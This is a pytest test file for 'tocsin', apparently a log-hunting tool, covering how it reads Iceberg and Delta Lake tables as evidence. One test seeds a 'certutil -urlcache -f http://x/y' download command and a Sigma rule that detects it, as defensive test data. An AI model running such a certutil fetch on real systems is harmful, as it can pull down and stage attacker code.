"""Tables of Iceberg and Delta Lake as evidence: only what their newest version holds, under the user's mapping."""

from __future__ import annotations

from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from tocsin.cli.main import run
from tocsin.collecting import collect, tables
from tocsin.collecting.batches import EventBatch
from tocsin.collecting.evidence import Evidence
from tocsin.collecting.tables import BOOKS, OLD
from tocsin.model.errors import UsageError

MAPPING = """- files: "*.parquet"
  format: parquet
  log: windows-sysmon
  time: {column: seen, format: iso}
  host: {column: machine}
  rename: {exe: Image, line: CommandLine}
  set: {EventID: 1}
"""


def rows(*lines: str) -> pa.Table:
    return pa.table(
        {
            "seen": [f"2021-03-02T07:00:0{number}Z" for number in range(len(lines))],
            "machine": ["WS1"] * len(lines),
            "exe": ["C:\\certutil.exe"] * len(lines),
            "line": list(lines),
        }
    )


def told(evidence: Evidence) -> list[str]:
    batches = [part for part in evidence.scan() if isinstance(part, EventBatch)]
    return sorted(line for batch in batches for line in batch.events.column("CommandLine").to_pylist())


@pytest.fixture
def mapping(tmp_path: Path) -> Path:
    path = tmp_path / "map.yaml"
    path.write_text(MAPPING, encoding="utf-8")
    return path


def test_of_delta_only_the_newest_version_is_read(tmp_path: Path, mapping: Path) -> None:
    deltalake = pytest.importorskip("deltalake", reason="SKIPPED, deltalake is not installed (pip install '.[delta]')")
    table = tmp_path / "evidence" / "table"
    deltalake.write_deltalake(str(table), rows("old"))
    deltalake.write_deltalake(str(table), rows("new", "newer"), mode="overwrite")
    deltalake.write_deltalake(str(table), rows("newest"), mode="append")
    evidence = collect([tmp_path / "evidence"], mapping=mapping)
    assert told(evidence) == ["new", "newer", "newest"]
    assert sorted({one.reason for one in evidence.not_read}) == sorted({BOOKS, OLD})


def test_of_iceberg_only_the_newest_version_is_read_where_it_was_written(tmp_path: Path, mapping: Path) -> None:
    catalogues = pytest.importorskip(
        "pyiceberg.catalog.sql", reason="SKIPPED, PyIceberg is not installed (pip install '.[iceberg]')"
    )
    place = tmp_path / "made"
    place.mkdir()
    catalogue = catalogues.SqlCatalog("x", uri=f"sqlite:///{tmp_path}/c.db", warehouse=place.as_uri())
    catalogue.create_namespace("own")
    table = catalogue.create_table("own.processes", schema=rows("x").schema)
    table.append(rows("old"))
    table.overwrite(rows("new", "newer"))
    assert told(collect([place], mapping=mapping)) == ["new", "newer"]
    assert {one.reason for one in collect([place], mapping=mapping).not_read} == {BOOKS, OLD}
    place.rename(tmp_path / "moved")  # it names its books and files by their full path
    moved = collect([tmp_path / "moved"])
    assert not moved.units
    assert any("of a table of Iceberg that cannot be read" in one.reason for one in moved.not_read)


def test_rules_are_true_of_a_table(tmp_path: Path, mapping: Path, capsys: pytest.CaptureFixture[str]) -> None:
    deltalake = pytest.importorskip("deltalake", reason="SKIPPED, deltalake is not installed (pip install '.[delta]')")
    deltalake.write_deltalake(str(tmp_path / "table"), rows("certutil -urlcache -f http://x/y", "dir"))
    rule = tmp_path / "rule.yml"
    rule.write_text(
        "title: Certutil\nid: 5b0d1f6e-6a0e-4f6e-9f0e-3f5b6f0b7a99\n"
        "logsource: {product: windows, category: process_creation}\n"
        "detection: {s: {Image|endswith: certutil.exe, CommandLine|contains: urlcache}, condition: s}\n"
    )
    asked = ["hunt", str(tmp_path / "table"), "--map", str(mapping), "-r", str(rule), "--format", "csv", "-q"]
    assert run(asked) == 1
    assert ",Certutil," in capsys.readouterr().out


def test_a_table_without_a_needed_column_is_one_line(tmp_path: Path, mapping: Path) -> None:
    pq.write_table(rows("x").drop_columns(["line"]), tmp_path / "a.parquet")
    with pytest.raises(UsageError, match="no column 'line'"):
        collect([tmp_path / "a.parquet"], mapping=mapping)


@pytest.mark.parametrize("books", ["_delta_log/00000000000000000000.json", "metadata/v1.metadata.json"])
def test_books_that_are_none_are_said_so_and_nothing_else_is_read(tmp_path: Path, mapping: Path, books: str) -> None:
    (tmp_path / "t" / books).parent.mkdir(parents=True)
    (tmp_path / "t" / books).write_text('{"add": 1', encoding="utf-8")
    pq.write_table(rows("x"), tmp_path / "t" / "a.parquet")
    mapping.write_text("- {files: '*.csv', format: csv}\n")
    (tmp_path / "x.csv").write_text("a,b\n1,2\n")
    evidence = collect([tmp_path / "t", tmp_path / "x.csv"], mapping=mapping)
    assert all(
        "cannot be read" in one.reason or one.reason == BOOKS or "pip install" in one.reason
        for one in evidence.not_read
    )
    assert len(evidence.not_read) == 2


def test_without_its_library_it_is_said_what_to_install(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "find_spec", lambda _name: None)
    assert "tocsin[delta]" in str(tables.table_of(str(tmp_path), "Delta Lake").problem)
    assert "tocsin[iceberg]" in str(tables.table_of(str(tmp_path), "Iceberg").problem)
